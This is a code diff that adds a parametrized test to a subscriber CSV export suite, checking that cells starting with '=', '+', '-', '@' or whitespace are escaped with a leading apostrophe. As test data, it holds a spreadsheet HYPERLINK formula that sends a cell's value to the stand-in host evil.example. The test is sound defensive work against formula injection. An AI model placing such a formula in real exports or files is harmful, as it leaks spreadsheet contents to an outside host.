@@ -78,6 +78,26 @@ def test_csv_export(office, subscribers):
     assert "'=HYPERLINK(1)@example.com" in by_email
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", " \t@"])
+def test_csv_export_keeps_every_typed_cell_text(office, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?d="&A2,"x")'
+    # A row as it may already be stored: the form refuses such addresses today.
+    typed = Subscription.objects.create(
+        email=f"{start}x@example.com",
+        query="q=cmd",
+        consent_text=formula,
+        status=Subscription.Status.CONFIRMED,
+        bounce_count=2,
+    )
+    response = office.post(LIST, {"action": "export_csv", "_selected_action": [typed.pk]})
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["email"] == f"'{start}x@example.com"
+    assert row["consent text"] == "'" + formula
+    assert row["filter"] == "q=cmd"
+    # Numbers the export writes itself stay numbers.
+    assert (row["bounces"], row["digest hour"]) == ("2", "8")
+
+
 def test_erase_one_on_request(office, subscribers):
     doomed = subscribers[0]
     article = ArticleFactory()
